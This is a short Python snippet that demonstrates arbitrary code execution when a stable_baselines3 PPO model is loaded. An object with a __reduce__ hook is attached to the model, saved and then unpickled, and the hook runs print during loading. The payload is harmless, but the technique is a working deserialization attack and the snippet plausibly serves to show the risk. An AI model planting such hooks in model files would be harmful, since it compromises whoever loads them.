from stable_baselines3 import PPO

model = PPO("MlpPolicy", "CartPole-v1")
model.curriculum = type("Curriculum", (), {"__reduce__": lambda _: (print, ("this ran while the file was read",))})()
model.save("model.zip")
PPO.load("model.zip")
